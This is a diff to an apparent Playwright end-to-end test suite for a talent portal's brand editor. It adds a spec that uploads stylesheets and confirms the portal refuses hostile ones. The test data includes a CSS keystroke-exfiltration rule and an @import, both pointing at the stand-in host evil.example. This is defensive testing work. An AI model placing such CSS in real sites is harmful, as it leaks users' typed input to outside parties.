@@ -31,7 +31,8 @@ test.describe('brand editor', () => {
     await brand(page).getByLabel('Greeting (English)').fill('Recruit with Acme');
     await brand(page).getByRole('button', { name: 'Save the brand' }).click();
     await expect(page.getByText('Brand saved. The login page shows it now.')).toBeVisible();
-    // The open app takes the new colour at once.
+    // The open app takes the new colour at once (read at rest, not under the pointer's hover).
+    await page.mouse.move(0, 0);
     await expect(page.getByRole('button', { name: 'Save the brand' })).toHaveCSS(
       'background-color',
       'rgb(29, 78, 216)',
@@ -59,5 +60,80 @@ test.describe('brand editor', () => {
     await page.goto(SETTINGS);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
     await expect(brand(page)).toHaveCount(0);
+  });
+});
+
+// SECURITY 22: the brand's stylesheet is a file uploaded to the portal, checked as CSS and served
+// by it; there is no address to type. Globex's brand, so Acme's stays as the other specs expect.
+test.describe('brand stylesheet', () => {
+  const GLOBEX_SETTINGS = `${GLOBEX}/2/3/settings`;
+  const dropzone = (page: Page) => page.locator('[aria-label="Drop a CSS file here or click to choose it"]');
+  const choose = (page: Page, name: string, css: string) =>
+    dropzone(page)
+      .locator('input[type="file"]')
+      .setInputFiles({ name, mimeType: 'text/css', buffer: Buffer.from(css) });
+  const brandCheck = (page: Page) =>
+    page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--e2e-brand-check').trim());
+
+  test('the owner uploads a stylesheet; one that loads from elsewhere is refused; the host applies it', async ({
+    page,
+    browser,
+  }) => {
+    const token = await signIn(page, 'owner@globex.test');
+    await page.goto(GLOBEX_SETTINGS);
+    await expect(brand(page).getByText('Preview of the login page')).toBeVisible();
+    await expect(brand(page).getByText('CSS, up to 0.25 MB.', { exact: false })).toBeVisible();
+
+    // The keystroke leak of the issue: refused with the reason, nothing changes.
+    await choose(page, 'leak.css', 'input[value^="a"] { background: url(https://evil.example/?k=a); }');
+    await expect(
+      brand(page).getByText(
+        'A stylesheet may only use files of this portal in url(); addresses of other sites are not allowed.',
+      ),
+    ).toBeVisible();
+    await choose(page, 'import.css', '@import url("https://evil.example/x.css");');
+    await expect(brand(page).getByText('@import is not allowed: put every rule in this one file.')).toBeVisible();
+
+    await choose(page, 'globex.css', ':root { --e2e-brand-check: applied; }\nh1 { text-decoration: underline; }\n');
+    await expect(brand(page).getByText('globex.css uploaded; save the brand to use it.')).toBeVisible();
+    await expect(brand(page).getByLabel('First lines of the stylesheet')).toContainText('--e2e-brand-check');
+    await expectAccessible(page, 'brand editor with a stylesheet');
+    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
+    await expect(page.getByText('Brand saved. The login page shows it now.')).toBeVisible();
+
+    // The open app loads it at once, from the portal, versioned.
+    await expect
+      .poll(() => page.locator('#brand-stylesheet').getAttribute('href'))
+      .toMatch(/^\/portal\/uploads\/brand-stylesheets\/[a-f0-9]{32}\.css\?v=\d+$/);
+    await expect.poll(() => brandCheck(page)).toBe('applied');
+
+    // A visitor of the host gets it on the login page; Acme's host does not.
+    const visitor = await browser.newContext();
+    const login = await visitor.newPage();
+    await login.goto(`${GLOBEX}/login`);
+    await expect(login.getByRole('heading', { level: 1 })).toHaveCSS('text-decoration-line', 'underline');
+    expect(await brandCheck(login)).toBe('applied');
+    await login.goto(`${ACME}/login`);
+    await expect(login.getByRole('heading', { level: 1 })).toBeVisible();
+    expect(await brandCheck(login)).toBe('');
+    await visitor.close();
+
+    // Removing it takes it off the open app once saved.
+    await brand(page).getByRole('button', { name: 'Remove the stylesheet' }).click();
+    await expect(brand(page).getByText('No stylesheet: the portal’s own look.')).toBeVisible();
+    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
+    await expect(page.getByText('Brand saved. The login page shows it now.').first()).toBeVisible();
+    await expect(page.locator('#brand-stylesheet')).toHaveCount(0);
+    expect(await brandCheck(page)).toBe('');
+
+    // Back to Globex's platform stylesheet for the specs that follow (the editor offers uploads only).
+    const headers = { 'x-af-eid': 'talent-portal', authorization: `Bearer ${token}`, 'x-af-aid': '2' };
+    const current = (await (await page.request.get(`${GLOBEX}/portal/v1/accounts/brand`, { headers })).json()).data;
+    const { name: _n, domains: _d, updated_at: _u, ...body } = current;
+    const restored = await page.request.put(`${GLOBEX}/portal/v1/accounts/brand`, {
+      headers,
+      data: { ...body, stylesheet_path: '/brands/globex.css' },
+    });
+    expect(restored.status()).toBe(200);
   });
 });
